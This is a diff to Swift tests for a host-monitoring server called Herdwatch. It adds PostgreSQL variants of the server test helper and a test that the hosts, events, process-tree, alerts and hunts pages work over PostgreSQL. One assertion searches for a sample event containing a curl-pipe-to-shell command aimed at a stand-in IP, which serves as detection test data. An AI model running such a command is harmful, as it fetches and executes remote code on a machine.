@@ -1,5 +1,6 @@
 import Foundation
 import HerdwatchStore
+import HerdwatchTestSupport
 import Hummingbird
 import HummingbirdTesting
 import Logging
@@ -33,12 +34,25 @@ import Testing
     }()
 
     func withServer(
-        users: UserDirectory? = nil, live: Bool = false, _ test: @Sendable (any TestClientProtocol) async throws -> Void
+        users: UserDirectory? = nil, live: Bool = false, postgres: Bool = false, _ test: @Sendable (any TestClientProtocol) async throws -> Void
     ) async throws {
+        if postgres {
+            let server = try await PostgresServer.start()
+            defer { withExtendedLifetime(server) {} }
+            try await PostgresStore.withStore(try PostgresStore.Configuration(url: server.url)) { store in
+                try await withServer(store: store, users: users, live: live, test)
+            }
+            return
+        }
         let folder = FileManager.default.temporaryDirectory.appendingPathComponent("herdwatch-ui-\(UUID().uuidString)")
         try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
         defer { try? FileManager.default.removeItem(at: folder) }
-        let store = try EventStore(path: folder.appendingPathComponent("events.db").path)
+        try await withServer(store: try EventStore(path: folder.appendingPathComponent("events.db").path), users: users, live: live, test)
+    }
+
+    func withServer(
+        store: any FleetStore, users: UserDirectory?, live: Bool, _ test: @Sendable (any TestClientProtocol) async throws -> Void
+    ) async throws {
         var settings = ServerRuntime.Settings(
             ingest: IngestConfiguration(tokens: Self.tokens, hostTags: ["web1": ["role": "web", "env": "prod"], "db1": ["role": "db", "env": "prod"]]))
         settings.web.users = users
@@ -131,8 +145,9 @@ import Testing
         }
     }
 
-    @Test func theQueryAPIAnswersInScopeAndRefusesWrites() async throws {
-        try await withServer { client in
+    @Test(arguments: [false, true])
+    func theQueryAPIAnswersInScopeAndRefusesWrites(postgres: Bool) async throws {
+        try await withServer(postgres: postgres) { client in
             func get(_ query: String) async throws -> (HTTPResponse.Status, [String: Any], String) {
                 try await client.execute(uri: "/api/v1/query?" + query, method: .get) { response in
                     let text = String(buffer: response.body)
@@ -152,6 +167,30 @@ import Testing
                 uri: "/api/v1/query", method: .post, body: ByteBuffer(string: #"{"sql": "SELECT count(*) AS n FROM processes", "hosts": "web1", "limit": 5}"#)
             ) { String(buffer: $0.body) }
             #expect(posted.contains(#""rows":[[4]]"#), "\(posted)")
+        }
+    }
+
+    /// Every page's queries run on PostgreSQL too (agent batches in over HTTP, pages out).
+    @Test(.enabled(if: PostgresServer.available, "needs PostgreSQL 15 (scripts/setup installs it)"))
+    func pagesWorkOverPostgreSQL() async throws {
+        try await withServer(postgres: true) { client in
+            func page(_ uri: String) async throws -> (HTTPResponse.Status, String) {
+                try await client.execute(uri: uri, method: .get) { ($0.status, String(buffer: $0.body)) }
+            }
+            let hosts = try await page("/hosts?hosts=role%3Dweb")
+            #expect(hosts.0 == .ok && hosts.1.contains("env=prod,role=web") && !hosts.1.contains("role=db"))
+            let search = try await page("/events?hosts=all&text=198.51.100.7&since=2026-11-23T00:00:00Z")
+            #expect(search.1.contains("bash -c curl -s http://198.51.100.7/x | sh"), "\(search.1)")
+            let tree = try await page("/process/E-bash")
+            #expect(tree.0 == .ok && tree.1.contains(#"href="/process/E-nginx""#) && tree.1.contains(#"href="/process/E-curl""#))
+            #expect(try await page("/alerts").0 == .ok)
+            let hunts = try await page("/hunts")
+            #expect(hunts.0 == .ok && hunts.1.contains("rare-parent-child"))
+            let duplicate = try await client.execute(
+                uri: "/api/v1/events", method: .post, headers: [.authorization: "Bearer web1-token-0123456789"],
+                body: ByteBuffer(string: Self.fleet[0].lines.joined(separator: "\n"))
+            ) { String(buffer: $0.body) }
+            #expect(duplicate.contains(#""duplicates":6"#) && duplicate.contains(#""stored":0"#), "\(duplicate)")
         }
     }
 
